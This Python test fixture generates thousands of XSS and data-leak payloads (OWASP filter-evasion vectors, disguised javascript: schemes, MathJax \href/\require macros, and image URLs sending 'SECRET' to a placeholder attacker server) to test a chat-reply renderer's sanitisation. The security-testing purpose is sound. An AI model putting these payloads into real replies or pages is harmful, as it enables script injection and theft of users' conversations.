"""A deterministic corpus of hostile replies (SPEC 10), for the Python and browser tests.

``corpus(leak_base)`` returns a list of replies. Reply ``n`` calls ``__pwn(n)`` from
every handler or script it tries to run, and every URL it tries to load starts with
``leak_base`` and carries ``n`` (``{leak_base}/n<n>/...``), so a failure in the
browser names the reply. The page defines ``__pwn`` and replaces ``alert``; anything
that runs lands in ``window.__pwned``.

The corpus is built from
- OWASP's XSS filter-evasion cheat sheet and later HTML/SVG/MathML vectors (mutation
  XSS, autofocus handlers, fetching attributes);
- Markdown forms: inline, angle-bracket, reference and autolink destinations with
  entity-, percent-, whitespace- and case-disguised schemes, images, nested brackets,
  and the marked-only forms that made issue 13;
- math-delimiter tricks (``$`` around HTML, in link targets and attributes) and MathJax
  macros that can make links, attributes or requests (``\\href``, ``\\unicode``,
  ``\\class``, ``\\style``, ``\\require``...);
- every base vector placed in the contexts a reply can put it (lists, quotes, tables,
  headings, emphasis, link text, after code spans, CRLF, NUL, zero-width characters),
  and seeded random combinations of two or three vectors.
"""

from __future__ import annotations

import random
import re

#: A reply's vectors use these placeholders: {P} is a statement reporting that script
#: ran, {L} a URL on the attacker's server.
OWASP = [
    "<SCRIPT SRC={L}/xss.js></SCRIPT>",
    "<script>{P}</script>",
    "<IMG SRC=\"javascript:{P};\">",
    "<IMG SRC=javascript:{P}>",
    "<IMG SRC=JaVaScRiPt:{P}>",
    "<IMG SRC=`javascript:{P}`>",
    "<a onmouseover=\"{P}\">xxs link</a>",
    "<IMG \"\"\"><SCRIPT>{P}</SCRIPT>\"\\>",
    "<IMG SRC=# onmouseover=\"{P}\">",
    "<IMG SRC= onerror=\"{P}\">",
    "<IMG onmouseover=\"{P}\">",
    "<IMG SRC=/ onerror=\"{P}\"></img>",
    "<img src=x onerror=\"&#0000095&#0000095pwn(0)\">",
    "<IMG SRC=&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;{P}>",
    "<IMG SRC=&#x6A&#x61&#x76&#x61&#x73&#x63&#x72&#x69&#x70&#x74&#x3A{P}>",
    "<IMG SRC=\"jav\tascript:{P};\">",
    "<IMG SRC=\"jav&#x09;ascript:{P};\">",
    "<IMG SRC=\"jav&#x0A;ascript:{P};\">",
    "<IMG SRC=\" &#14;  javascript:{P};\">",
    "<SCRIPT/XSS SRC=\"{L}/xss.js\"></SCRIPT>",
    "<BODY onload!#$%&()*~+-_.,:;?@[/|\\]^`={P}>",
    "<<SCRIPT>{P};//\\<</SCRIPT>",
    "<SCRIPT SRC={L}/xss.js?< B >",
    "<IMG SRC=\"`('XSS')\"",
    "<iframe src={L}/scriptlet.html <",
    "</TITLE><SCRIPT>{P};</SCRIPT>",
    "<INPUT TYPE=\"IMAGE\" SRC=\"javascript:{P};\">",
    "<BODY BACKGROUND=\"javascript:{P}\">",
    "<IMG DYNSRC=\"javascript:{P}\">",
    "<IMG LOWSRC=\"{L}/low.png\">",
    "<STYLE>li {list-style-image: url(\"{L}/li.png\");}</STYLE><UL><LI>XSS</br>",
    "<IMG SRC='vbscript:msgbox(\"XSS\")'>",
    "<svg/onload={P}>",
    "<BODY ONLOAD={P}>",
    "<BGSOUND SRC=\"{L}/bg.wav\">",
    "<BR SIZE=\"&{{P}}\">",
    "<LINK REL=\"stylesheet\" HREF=\"{L}/xss.css\">",
    "<STYLE>@import'{L}/xss.css';</STYLE>",
    "<META HTTP-EQUIV=\"Link\" Content=\"<{L}/xss.css>; REL=stylesheet\">",
    "<STYLE>BODY{-moz-binding:url(\"{L}/xssmoz.xml#xss\")}</STYLE>",
    "<STYLE>@im\\port'\\ja\\vasc\\ript:{P}';</STYLE>",
    "<IMG STYLE=\"xss:expr/*XSS*/ession({P})\">",
    "<META HTTP-EQUIV=\"refresh\" CONTENT=\"0;url={L}/refresh\">",
    "<META HTTP-EQUIV=\"refresh\" CONTENT=\"0;url=javascript:{P};\">",
    "<IFRAME SRC=\"javascript:{P};\"></IFRAME>",
    "<IFRAME SRC=# onmouseover=\"{P}\"></IFRAME>",
    "<iframe srcdoc=\"&lt;script&gt;parent.{P}&lt;/script&gt;\"></iframe>",
    "<FRAMESET><FRAME SRC=\"javascript:{P};\"></FRAMESET>",
    "<TABLE BACKGROUND=\"{L}/t.png\">",
    "<TABLE><TD BACKGROUND=\"{L}/td.png\">",
    "<DIV STYLE=\"background-image: url({L}/div.png)\">x</DIV>",
    "<DIV STYLE=\"background-image:\\0075\\0072\\006C\\0028'{L}/esc.png'\\0029\">x</DIV>",
    "<DIV STYLE=\"width: expression({P});\">",
    "<BASE HREF=\"javascript:{P};//\">",
    "<OBJECT TYPE=\"text/x-scriptlet\" DATA=\"{L}/scriptlet.html\"></OBJECT>",
    "<EMBED SRC=\"{L}/embed.swf\" AllowScriptAccess=\"always\"></EMBED>",
    "<SCRIPT a=\">\" SRC=\"{L}/a.js\"></SCRIPT>",
    "<A HREF=\"javascript:document.location='{L}/loc'\">XSS</A>",
    "<img src=x:alert(alt) onerror=eval(src) alt=0>",
    "<details open ontoggle={P}>x</details>",
    "<video><source onerror=\"{P}\"></video>",
    "<audio src=x onerror={P}>",
    "<video poster={L}/poster.png></video>",
    "<marquee onstart={P}>x</marquee>",
    "<object data=\"javascript:{P}\"></object>",
    "<embed src=\"javascript:{P}\">",
    "<form><button formaction=javascript:{P}>go</button></form>",
    "<form action={L}/form><input type=submit></form>",
    "<isindex action=javascript:{P} type=image>",
    "<input onfocus={P} autofocus>",
    "<select autofocus onfocus={P}>",
    "<textarea autofocus onfocus={P}>x</textarea>",
    "<keygen autofocus onfocus={P}>",
    "<math><maction actiontype=\"statusline\" xlink:href=\"javascript:{P}\">x</maction></math>",
    "<math href=\"javascript:{P}\"><mi>x</mi></math>",
    "<math><mtext><table><mglyph><style><img src=x onerror={P}>",
    "<svg><a xlink:href=\"javascript:{P}\"><text x=20 y=20>x</text></a></svg>",
    "<svg><animate onbegin={P} attributeName=x dur=1s>",
    "<svg><set attributeName=href to=javascript:{P}>",
    "<svg><image href=\"{L}/svg-image.png\"/></svg>",
    "<svg><use href=\"{L}/use.svg#x\"/></svg>",
    "<svg><script>{P}</script></svg>",
    "<svg><style>@import url({L}/svg.css)</style></svg>",
    "<svg><foreignObject><img src=x onerror={P}></foreignObject></svg>",
    "<noscript><p title=\"</noscript><img src=x onerror={P}>\">",
    "<svg></p><style><a id=\"</style><img src=1 onerror={P}>\">",
    "<form><math><mtext></form><form><mglyph><svg><mtext><textarea><path id=\"</textarea>"
    "<img onerror={P} src=1>\">",
    "<img srcset=\"{L}/srcset.png 1x\">",
    "<picture><source srcset=\"{L}/picture.png\"><img></picture>",
    "<link rel=preload as=image href={L}/preload.png>",
    "<link rel=prefetch href={L}/prefetch>",
    "<body background={L}/body.png>",
    "<input type=image src={L}/input.png>",
    "<iframe src={L}/iframe.html></iframe>",
    "<embed src={L}/embed.html>",
    "<object data={L}/object.html></object>",
    "<div style=\"background:url({L}/style.png)\">styled</div>",
    "<style>*{background:url({L}/sheet.png)}</style>",
    "<style>@import \"{L}/import.css\";</style>",
    "<a ping={L}/ping href=https://ok.example>ping</a>",
    "<img/src=x/onerror={P}>",
    "<img src=x onerror\t={P}>",
    "<img src=x onerror\n={P}>",
    "<IMG SRC=x OnError={P}>",
    "<img src=x onerror={P}//",
    "<img src=\"x\"onerror=\"{P}\">",
    "<!--<img src=x onerror={P}>-->",
    "<!-- --!><img src=x onerror={P}>",
    "<![CDATA[><img src=x onerror={P}>]]>",
    "<?xml ?><img src=x onerror={P}>",
    "<a href=\"jav&#x61;script:{P}\">a</a>",
    "<a href=\"&#x6a;avascript&colon;{P}\">a</a>",
    "<a href=\" javascript:{P}\">a</a>",
    "<a href=\"data:text/html,<script>parent.{P}</script>\">a</a>",
    "<a href=\"{L}/a-link\">plain link to attacker</a>",
    "<img src=\"{L}/plain.png\">",
    "<base href=\"{L}/\">",
    "<meta http-equiv=\"refresh\" content=\"0;url={L}/meta\">",
    "<template><img src=x onerror={P}></template>",
    "<xmp><img src=x onerror={P}></xmp>",
    "<plaintext><img src=x onerror={P}>",
    "<title><img src=x onerror={P}></title>",
    "<div id=\"__pwned\">clobber</div><a id=__pwned name=__pwned href=x>c</a>",
    "<img src=x onerror=\"import('{L}/mod.js')\">",
]

SCHEMES = [
    "javascript:{P}",
    "JaVaScRiPt:{P}",
    "&#106;avascript:{P}",
    "&#x6A;avascript:{P}",
    "&#0000106avascript:{P}",
    "javascript&#58;{P}",
    "javascript&colon;{P}",
    "jav&#x09;ascript:{P}",
    "jav&#x0A;ascript:{P}",
    "java%73cript:{P}",
    "%6Aavascript:{P}",
    "java\\script:{P}",
    "&#32;javascript:{P}",
    "data:text/html,<script>parent.{P}</script>",
    "data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==",
    "d&#97;ta:text/html,x",
    "data&#58;image/svg+xml,<svg onload=parent.{P}>",
    "vbscript:msgbox(1)",
    "vbscript&#58;msgbox(1)",
    "file:///etc/passwd",
    "../../api/terminals",
    "/api/contents",
    "#frag",
    "//evil.example/x",
]
LEAKS = [
    "{L}/img.png?q=SECRET",
    "&#104;ttp://{H}/ent.png?q=SECRET",
    "HTTP://{H}/upper.png",
    "//{H}/proto-relative.png",
    "http:\\\\{H}\\backslash.png",
    "h&#116;tp&#58;//{H}/ent2.png",
    "http&#x3A;//{H}/ent3.png",
]
LINK_FORMS = [
    "[click](D)",
    "[click](<D>)",
    "[click](<D<>)",
    "[click](D \"title\")",
    "[click](<D> 'title')",
    "[click]( D )",
    "[click](D)(",
    "[click](D//(",
    "[[click]](D)",
    "[click][r]\n\n[r]: D",
    "[r]\n\n[r]: <D>",
    "[click][r]\n\n[r]: D \"t\"",
    "<D>",
    "[a [b](D) c](https://ok.example)",
    "[![i]({L}/nested.png)](D)",
    "[click](D 'a' \"b\")",
]
IMAGE_FORMS = [
    "![chart](D)",
    "![chart](<D<>)",
    "![chart](<D>)",
    "![chart](D \"t\")",
    "![chart][img]\n\n[img]: D",
    "![chart][]\n\n[chart]: D",
    "![chart]\n\n[chart]: <D>",
    "![![x](D)](D)",
    "[![chart](D)](https://ok.example)",
    "!<D>",
]
MATH = [
    "$<img src=x onerror={P}>$",
    "$$<script>{P}</script>$$",
    "$$\n<img src=x onerror={P}>\n$$",
    "\\\\(<svg/onload={P}>\\\\)",
    "[x](<https://a.example/$\" onmouseover=\"{P}$>)",
    "![$\" onerror=\"{P};$](x)",
    "https://a.example/$\"onmouseover=\"{P}$",
    "- ```$x\"onmouseover=\"{P}$\n  code\n  ```\n",
    "<a title=\"$\"><img src=x onerror={P}>$\">",
    "$[a](javascript:{P})$",
    "$![x]({L}/math-img.png)$",
    "$$\n[a](data:text/html,hi)\n$$",
    "$a$<img src=x onerror={P}>$b$",
    "`$`<img src=x onerror={P}>`$`",
    "$x$ and [$y$](javascript:{P}) and $z$",
    "$\\href{javascript:{P}}{click}$",
    "$\\href{{L}/href}{x}$",
    "$$\\href{javascript:{P}}{x}$$",
    "\\\\(\\href{javascript:{P}}{x}\\\\)",
    "\\\\[\\href{javascript:{P}}{x}\\\\]",
    "\\begin{equation}\\href{javascript:{P}}{x}\\end{equation}",
    "\\begin{align}a &= \\href{javascript:{P}}{b}\\end{align}",
    "$\\url{javascript:{P}}$",
    "$\\unicode{x41}\\unicode[Arial]{x42}$",
    "$\\class{jp-Dialog}{x}$",
    "$\\style{background:url({L}/style-macro.png)}{x}$",
    "$\\cssId{__pwned}{x}$",
    "$\\data{x=1}{y}$",
    "$\\require{{L}/require.js}$",
    "$\\require{html}\\href{javascript:{P}}{x}$",
    "$\\bbox[background-image:url({L}/bbox.png)]{x}$",
    "$\\mmlToken{mi}[href=\"javascript:{P}\"]{x}$",
    "$\\mmlToken{mi}[style=\"background:url({L}/token.png)\"]{x}$",
    "$\\enclose{circle}[background=\"url({L}/enclose.png)\"]{x}$",
    "$\\htmlClass{a}{b}\\htmlStyle{background:url({L}/hs.png)}{c}\\htmlData{a=b}{c}$",
    "$\\csname href\\endcsname{javascript:{P}}{x}$",
    "$\\def\\h{\\href}\\h{javascript:{P}}{x}$",
    "$\\newcommand{\\h}{\\href}\\h{javascript:{P}}{x}$",
    "&#36;\\href{javascript:{P}}{x}&#36;",
    "$&#92;href{javascript:{P}}{x}$",
    "\\$\\href{javascript:{P}}{x}\\$",
    "$\\text{\\href{javascript:{P}}{x}}$",
    "$$\n\\begin{array}{c}\\href{javascript:{P}}{x}\\end{array}\n$$",
    "[$\\href{javascript:{P}}{x}$](https://ok.example)",
    "| a |\n|---|\n| $\\href{javascript:{P}}{x}$ |",
    "# $\\href{javascript:{P}}{x}$",
    "> $\\style{background:url({L}/quote.png)}{x}$",
    "$\\texttip{\\href{javascript:{P}}{x}}{tip}$",
    "$\\toggle{\\href{javascript:{P}}{a}}{b}\\endtoggle$",
    "$\\eqref{x}\\ref{y}$",
    "$\\setOptions[tex]{tagSide=left}\\href{javascript:{P}}{x}$",
]
REPLIES_FROM_ISSUE_13 = [
    "[click me](<&#106;avascript:({P})//<>)",
    "[also me](javascript&#58;({P})//(",
    "![chart](<&#104;ttp://{H}/leak.png?q=SECRET-CONVERSATION<>)",
]
CONTEXTS = [
    "{v}",
    "Here is the summary.\n\n{v}\n\nHope this helps.",
    "- item\n- {v}\n- last",
    "1. {v}",
    "> {v}",
    "> > {v}",
    "| a | b |\n|---|---|\n| {v} | x |",
    "# {v}",
    "**{v}**",
    "_{v}_",
    "[{v}](https://ok.example)",
    "`code` {v} `code`",
    "text\\\n{v}",
    "<div>\n{v}\n</div>",
    "<!-- {v} -->",
    "{v}\r\nnext line",
    "\x00{v}",
    "\u200b{v}\u200b",
    "    {v}",
    "```\n```\n{v}",
    "~~{v}~~",
    "Term\n: {v}",
    "- [ ] {v}",
    "{v}\n\n[ok]: https://ok.example",
]


def _vectors() -> list[str]:
    base = list(OWASP) + list(MATH) + list(REPLIES_FROM_ISSUE_13)
    for form in LINK_FORMS:
        base += [form.replace("D", scheme) for scheme in SCHEMES]
    for form in IMAGE_FORMS:
        base += [form.replace("D", leak) for leak in LEAKS]
    return base


def corpus(leak_base: str = "http://127.0.0.1:9") -> list[str]:
    """At least 4,000 hostile replies; reply ``n`` reports as ``__pwn(n)`` and ``/n<n>/``."""
    vectors = _vectors()
    templates = list(vectors)
    # Every vector in a handful of contexts, chosen by a seeded generator.
    rng = random.Random(13)
    for vector in vectors:
        for context in rng.sample(CONTEXTS, 4):
            templates.append(context.replace("{v}", vector))
    # The ones marked makes live, and the math tricks, in every context.
    for vector in REPLIES_FROM_ISSUE_13 + MATH[:16]:
        templates += [context.replace("{v}", vector) for context in CONTEXTS]
    # Combinations: a vector can open a construct that the next one completes.
    while len(templates) < 4600:
        picked = rng.sample(vectors, rng.choice((2, 3)))
        templates.append(rng.choice(("", "\n", "\n\n", " ")).join(picked))
    host = leak_base.split("://", 1)[-1]
    return [
        t.replace("{P}", f"__pwn({n})").replace("{L}", f"{leak_base}/n{n}")
        .replace("{H}", f"{host}/n{n}")
        for n, t in enumerate(templates)
    ]


# The unsafe control shows many replies in one Markdown output, so it keeps to the
# Markdown forms: raw HTML can swallow what follows (an unclosed <iframe or <script),
# and Jupyter pairs math delimiters across replies.
_NOT_IN_CONTROL = re.compile(r"<[A-Za-z!?/]|\$|\\\\[(\[]|\\begin")


def control(reply: str) -> bool:
    """Whether the unsafe control may show ``reply`` among others in one Markdown output."""
    return _NOT_IN_CONTROL.search(reply) is None
